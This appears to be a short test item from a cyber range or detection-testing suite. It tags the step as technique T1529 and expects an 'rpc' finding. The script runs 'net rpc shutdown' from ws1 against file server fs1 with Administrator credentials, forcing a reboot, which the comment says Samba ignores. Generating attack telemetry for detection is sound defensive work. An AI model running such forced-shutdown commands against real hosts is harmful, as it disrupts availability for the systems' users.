# SPDX-License-Identifier: Apache-2.0
# what: fs1 told to shut down with net rpc; Samba does not
# technique: T1529
# from: ws1
# to: fs1
# account: Administrator
# outcome: attempt
# must: finding rpc
. "$RANGE_HERE/item.sh"
timeout 20 net rpc shutdown -r -f -t 600 -C bye -S $fs1 -U "Administrator%$ADMIN_PASSWORD"
true
